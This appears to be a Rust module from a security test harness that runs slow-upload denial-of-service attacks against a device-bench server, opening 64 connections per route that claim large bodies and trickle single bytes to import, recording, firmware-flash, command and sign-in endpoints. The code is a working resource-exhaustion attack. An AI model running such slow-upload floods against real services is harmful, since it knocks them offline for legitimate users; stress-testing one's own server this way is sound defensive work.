//! Uploads that begin and then make hardly any progress: each tries to hold on to everything that a
//! server reserves for a body that is still arriving.

use std::io::Result;
use std::pin::pin;
use std::time::Duration;

use futures_util::future::{LocalBoxFuture, join_all};
use tokio::io::{AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::time::sleep;

use crate::attack::{Attack, Tally};
use crate::site::{ATTACKER, Site};
use crate::wire::{connect, read_answer};

/// Concurrent uploads: more than a handler group, or a thread pool, has places for.
const UPLOADS: usize = 64;

/// Bytes that each upload claims to send.
const LENGTH: u32 = 5_000_000;

/// Every other upload sends a byte this often; the others are silent.
const TRICKLE_PAUSE: Duration = Duration::from_millis(500);

/// Wait before an upload that was ended is begun again.
const RETRY_PAUSE: Duration = Duration::from_millis(250);

/// The first bytes of a form with a file.
const FORM: &str =
    "--XbX\r\nContent-Disposition: form-data; name=\"firmware\"; filename=\"a\"\r\n\r\nabc";

/// The owner of the key.
enum Whose {
    /// Somebody from another organisation.
    Stranger,
    /// Somebody from the honest caller's organisation.
    Colleague,
    Nobody,
}

/// Slow uploads to one route.
pub(crate) struct SlowUploads {
    name: &'static str,
    does: &'static str,
    path: &'static str,
    content_type: &'static str,
    begin: &'static str,
    whose: Whose,
}

impl SlowUploads {
    pub(crate) const IMPORTS: Self = Self {
        name: "slow-imports",
        does: "64 imports of captures by another organisation, a few bytes each",
        path: "/api/captures/import",
        content_type: "application/octet-stream",
        begin: "PK",
        whose: Whose::Stranger,
    };

    pub(crate) const RECORDINGS: Self = Self {
        name: "slow-recordings",
        does: "64 recordings of waveforms by another organisation, a few bytes each",
        path: "/api/bench/waveforms/recording?name=a&sample_rate_hz=1000&full_scale_v=3.3",
        content_type: "application/octet-stream",
        begin: "ab",
        whose: Whose::Stranger,
    };

    pub(crate) const FLASHES: Self = Self {
        name: "slow-flashes",
        does: "64 firmware files by a colleague's key, a few bytes each",
        path: "/api/bench/devices/{device}/flash",
        content_type: "multipart/form-data; boundary=XbX",
        begin: FORM,
        whose: Whose::Colleague,
    };

    pub(crate) const COMMANDS: Self = Self {
        name: "slow-commands",
        does: "64 JSON bodies to a device by a colleague's key, a byte each",
        path: "/api/bench/devices/{device}/command",
        content_type: "application/json",
        begin: "{",
        whose: Whose::Colleague,
    };

    pub(crate) const SIGN_INS: Self = Self {
        name: "slow-sign-ins",
        does: "64 anonymous JSON bodies to the sign-in, a byte each",
        path: "/api/auth/session",
        content_type: "application/json",
        begin: "{",
        whose: Whose::Nobody,
    };

    fn head(&self, site: &Site) -> String {
        let path = self.path.replace("{device}", &site.device);
        let authorization = match self.whose {
            Whose::Stranger => format!("authorization: {}\r\n", site.stranger),
            Whose::Colleague => format!("authorization: {}\r\n", site.colleague),
            Whose::Nobody => String::new(),
        };
        // A JSON body that is too long is refused by its head.
        let length = match self.content_type {
            "application/json" => 4000,
            _ => LENGTH,
        };
        let (kind, begin) = (self.content_type, self.begin);
        format!(
            "POST {path} HTTP/1.1\r\nhost: hostd\r\n{authorization}content-type: {kind}\r\ncontent-length: {length}\r\n\r\n{begin}"
        )
    }
}

impl Attack for SlowUploads {
    fn name(&self) -> &'static str {
        self.name
    }

    fn does(&self) -> &'static str {
        self.does
    }

    fn run<'a>(&'a self, site: &'a Site, tally: &'a Tally) -> LocalBoxFuture<'a, ()> {
        let head = self.head(site);
        Box::pin(async move {
            let uploads = (0..UPLOADS).map(|n| keep_uploading(site, tally, &head, n % 2 == 0));
            join_all(uploads).await;
        })
    }
}

async fn keep_uploading(site: &Site, tally: &Tally, head: &str, trickles: bool) {
    loop {
        match connect(ATTACKER, site.address).await {
            Ok(stream) => {
                tally.opened();
                match upload(stream, head, trickles).await {
                    Ok(status) => tally.answered(status),
                    Err(_) => tally.cut(),
                }
            }
            Err(_) => tally.refused(),
        }
        sleep(RETRY_PAUSE).await;
    }
}

/// Upload until the server answers, and return the status.
async fn upload(mut stream: TcpStream, head: &str, trickles: bool) -> Result<u16> {
    stream.write_all(head.as_bytes()).await?;
    let (reader, mut writer) = stream.into_split();
    let mut reader = BufReader::new(reader);
    let mut answered = pin!(read_answer(&mut reader));
    loop {
        tokio::select! {
            answered = &mut answered => return Ok(answered?.0.status),
            () = sleep(TRICKLE_PAUSE), if trickles => {
                // If the server reads no more, its answer still has to be read.
                let _ = writer.write_all(b"a").await;
            }
        }
    }
}
